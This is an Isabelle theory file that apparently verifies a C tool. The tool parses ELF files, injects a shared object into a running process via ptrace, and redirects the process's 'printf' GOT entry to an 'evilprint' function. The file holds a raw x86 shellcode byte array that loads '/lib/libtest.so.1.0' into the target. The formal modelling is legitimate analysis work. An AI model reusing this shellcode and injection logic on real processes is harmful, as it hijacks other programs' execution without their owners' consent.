(* ===== verification/Map_Parser.thy ===== *)
theory Map_Parser
  imports Linux_Obj_Parser Posix_Files Process_Injector
begin

text \<open>
  \<open>got_modifier/map_parser.c\<close>: maps the executable of a process and a shared object, reads both with
  the object parser, injects the object into the process and redirects a function of it. The
  memory \<open>m\<close> is that of the program itself, where the two files are mapped; the process it works on
  is a \<open>tracee\<close>. A call of \<open>exit\<close> is its status on the left of a sum.
\<close>

section \<open>Data\<close>

record task_desc_t =
  td_fd :: int
  td_map :: u32
  td_mem :: nat
  td_len :: nat
  td_info :: lop_info

record lib_desc_t =
  lib_fd :: int
  lib_base :: u32
  lib_len :: nat
  lib_info :: lop_info
  lib_vaddr :: u32

section \<open>The shared object\<close>

text \<open>
  The result carries what the function returns, the descriptor, the memory and the resources. The
  value of \<open>lop_init_info\<close> is dropped, as in the code; it returns \<open>0\<close> or not at all.
\<close>

definition map_parser_init_lib_hooker ::
  "u32 kernel \<Rightarrow> mem32 \<Rightarrow> lib_desc_t \<Rightarrow> string \<Rightarrow> u32 held \<Rightarrow>
   (int + int \<times> lib_desc_t \<times> mem32 \<times> u32 held) option" where
  "map_parser_init_lib_hooker K m lib filename held = (case k_stat K filename of
     None \<Rightarrow> Some (Inr (- 1, lib, m, held))
   | Some st_size \<Rightarrow> (case sys_open K filename held of
       (Inl e, held) \<Rightarrow> Some (Inr (- 1, lib\<lparr> lib_fd := - 1 \<rparr>, m, held))
     | (Inr fd, held) \<Rightarrow>
       let lib = lib\<lparr> lib_fd := fd \<rparr>
       in (case sys_mmap K fd st_size held of
         (Inl e, held) \<Rightarrow> Some (Inr (- 1, lib\<lparr> lib_base := - 1 \<rparr>, m, sys_close fd held))
       | (Inr (addr, m), held) \<Rightarrow> do {
           let lib = lib\<lparr> lib_base := addr, lib_len := st_size \<rparr>;
           r \<leftarrow> lop_init_info m addr;
           (case r of
              Inl e \<Rightarrow> Some (Inl e)
            | Inr (ret, info) \<Rightarrow> Some (Inr (0, lib\<lparr> lib_info := info \<rparr>, m, held))) })))"

definition map_parser_exit_lib_hooker :: "lib_desc_t \<Rightarrow> u32 held \<Rightarrow> u32 held" where
  "map_parser_exit_lib_hooker lib held =
    sys_munmap (lib_base lib) (lib_len lib) (sys_close (lib_fd lib) held)"

section \<open>The process\<close>

text \<open>
  \<open>snprintf(buff, max_len, "/proc/%hu/%s", numpid, whatfile)\<close>: \<open>%hu\<close> prints the number as an
  \<open>unsigned short\<close>. The result is the length it would need and what fits before the terminator.
\<close>

definition map_parser_build_procfs_filename :: "int \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> nat \<times> string" where
  "map_parser_build_procfs_filename numpid whatfile max_len = (
     let s = proc_file (decimal (nat (numpid mod 2 ^ 16))) whatfile
     in (length s, take (max_len - 1) s))"

definition map_parser_exit :: "task_desc_t \<Rightarrow> u32 held \<Rightarrow> u32 held" where
  "map_parser_exit ptr held =
    sys_close (td_fd ptr) (sys_munmap (td_map ptr) (td_len ptr) (sys_fclose (td_mem ptr) held))"

text \<open>
  The buffers have \<open>strlen("/proc/XXXXX/maps") + 1\<close> and \<open>strlen("/proc/XXXXX/exe") + 1\<close> bytes, and
  the code compares with \<open>>\<close>. Every failure unwinds and ends in \<open>exit(1)\<close>; the resources held at
  that moment are the last component.
\<close>

definition map_parser_init ::
  "u32 kernel \<Rightarrow> mem32 \<Rightarrow> task_desc_t \<Rightarrow> int \<Rightarrow> u32 held \<Rightarrow>
   ((int + int \<times> task_desc_t \<times> mem32) \<times> u32 held) option" where
  "map_parser_init K m td numpid held = (
     let (ret, buff) = map_parser_build_procfs_filename numpid ''maps'' 17
     in if ret > 17 then Some (Inl 1, held)
     else let (ret, buff2) = map_parser_build_procfs_filename numpid ''exe'' 16
     in if ret > 16 then Some (Inl 1, held)
     else (case sys_fopen K buff held of
       (None, held) \<Rightarrow> Some (Inl 1, held)
     | (Some fp, held) \<Rightarrow> (case sys_open K buff2 held of
         (Inl e, held) \<Rightarrow> Some (Inl 1, sys_fclose fp held)
       | (Inr fd, held) \<Rightarrow> (case k_fstat K fd of
           Inl e \<Rightarrow> Some (Inl 1, sys_fclose fp (sys_close fd held))
         | Inr st_size \<Rightarrow> (case sys_mmap K fd st_size held of
             (Inl e, held) \<Rightarrow> Some (Inl 1, sys_fclose fp (sys_close fd held))
           | (Inr (addr, m), held) \<Rightarrow> do {
               r \<leftarrow> lop_init_info m addr;
               (case r of
                  Inl e \<Rightarrow> Some (Inl e, held)
                | Inr (ret', info) \<Rightarrow> Some (Inr (0, \<lparr> td_fd = fd, td_map = addr, td_mem = fp,
                    td_len = st_size, td_info = info \<rparr>, m), held)) })))))"

section \<open>Redirecting a function\<close>

text \<open>The first loop stops at the first entry of the name, the second takes the last one.\<close>

fun map_parser_first_rel :: "mem32 \<Rightarrow> byte list \<Rightarrow> lop_dynsym list \<Rightarrow> u32 option option" where
  "map_parser_first_rel m fname [] = Some None"
| "map_parser_first_rel m fname (d # ds) = do {
     same \<leftarrow> (if lop_symname d \<noteq> 0 then str_at m (lop_symname d) fname else Some False);
     if same then Some (lop_rel d) else map_parser_first_rel m fname ds }"

fun map_parser_last_sym :: "mem32 \<Rightarrow> byte list \<Rightarrow> lop_dynsym list \<Rightarrow> u32 option \<Rightarrow> u32 option option" where
  "map_parser_last_sym m fname [] sym2 = Some sym2"
| "map_parser_last_sym m fname (d # ds) sym2 = do {
     same \<leftarrow> (if lop_symname d \<noteq> 0 then str_at m (lop_symname d) fname else Some False);
     map_parser_last_sym m fname ds (if same then Some (lop_sym d) else sym2) }"

definition lop_entries :: "lop_info \<Rightarrow> lop_dynsym list option" where
  "lop_entries info = (if unat (lop_dynsym_count info) \<le> length (lop_plt info)
     then Some (take (unat (lop_dynsym_count info)) (lop_plt info)) else None)"

definition map_parser_replace_virtual_addrfunc ::
  "int \<Rightarrow> mem32 \<Rightarrow> byte list \<Rightarrow> byte list \<Rightarrow> tracee \<Rightarrow> task_desc_t \<Rightarrow> lib_desc_t \<Rightarrow> tracee option" where
  "map_parser_replace_virtual_addrfunc attach m fname1 fname2 t task lib = do {
     ds1 \<leftarrow> lop_entries (td_info task);
     sym1 \<leftarrow> map_parser_first_rel m fname1 ds1;
     (case sym1 of
        None \<Rightarrow> Some t
      | Some sym1 \<Rightarrow> do {
          ds2 \<leftarrow> lop_entries (lib_info lib);
          sym2 \<leftarrow> map_parser_last_sym m fname2 ds2 None;
          (case sym2 of
             None \<Rightarrow> Some t
           | Some sym2 \<Rightarrow> do {
               r_offset \<leftarrow> Elf32_r_offset m sym1;
               st_value \<leftarrow> Elf32_st_value m sym2;
               let new_val = lib_vaddr lib + st_value;
               if attach < 0 then Some t
               else Some (t\<lparr> tr_mem := ptrace_poke (tr_mem t) r_offset (le_bytes sizeof_long new_val),
                 tr_attached := False \<rparr>) }) }) }"

section \<open>The program\<close>

definition sh :: "byte list" where
  "sh = [
      233, 59, 0, 0, 0, 49, 201, 176, 5, 91, 49, 201, 205, 128, 131, 236,
      24, 49, 210, 137, 20, 36, 199, 68, 36, 4, 0, 32, 0, 0, 199, 68,
      36, 8, 7, 0, 0, 0, 199, 68, 36, 12, 2, 0, 0, 0, 137, 68,
      36, 16, 137, 84, 36, 20, 184, 90, 0, 0, 0, 137, 227, 205, 128, 204,
      232, 192, 255, 255, 255, 47, 108, 105, 98, 47, 108, 105, 98, 116, 101, 115,
      116, 46, 115, 111, 46, 49, 46, 48, 0, 0]"

text \<open>
  \<open>main\<close> with two arguments, the number and the path; \<open>attach1\<close> and \<open>attach2\<close> are the results of the
  two \<open>PTRACE_ATTACH\<close> requests, \<open>lib\<close> is the uninitialised \<open>struct lib_desc_t\<close>.
\<close>

definition map_parser_main ::
  "u32 kernel \<Rightarrow> mem32 \<Rightarrow> (tracee \<Rightarrow> tracee) \<Rightarrow> byte list \<Rightarrow> task_desc_t \<Rightarrow> lib_desc_t \<Rightarrow> int \<Rightarrow> int \<Rightarrow>
   int \<Rightarrow> string \<Rightarrow> tracee \<Rightarrow> u32 held \<Rightarrow> (int \<times> tracee \<times> u32 held) option" where
  "map_parser_main K m run junk td lib attach1 attach2 pid file t held = do {
     r \<leftarrow> map_parser_init K m td pid held;
     (case r of
        (Inl e, held) \<Rightarrow> Some (e, t, held)
      | (Inr (ret, td, m), held) \<Rightarrow> do {
          l \<leftarrow> map_parser_init_lib_hooker K m lib file held;
          (case l of
             Inl e \<Rightarrow> Some (e, t, held)
           | Inr (ret, lib, m, held) \<Rightarrow> do {
               out1 \<leftarrow> lop_display m (td_info td);
               out2 \<leftarrow> lop_display m (lib_info lib);
               inj \<leftarrow> process_injector_inject attach1 run junk t (lop_textvaddr (td_info td)) sh (length sh);
               (case inj of
                  Inl e \<Rightarrow> Some (e, t, held)
                | Inr (addr_dso, t) \<Rightarrow> do {
                    let lib = lib\<lparr> lib_vaddr := addr_dso \<rparr>;
                    t \<leftarrow> map_parser_replace_virtual_addrfunc attach2 m (bytes_of ''printf'')
                      (bytes_of ''evilprint'') t td lib;
                    Some (0, t, map_parser_exit_lib_hooker lib (map_parser_exit td held)) }) }) }) }"

section \<open>Path names\<close>

lemma map_parser_build_procfs_fits:
  "length (decimal (nat (numpid mod 2 ^ 16))) \<le> 5"
  by (rule length_decimal) (simp_all add: nat_less_iff order.strict_trans1 [OF less_imp_le [OF pos_mod_bound]])

end
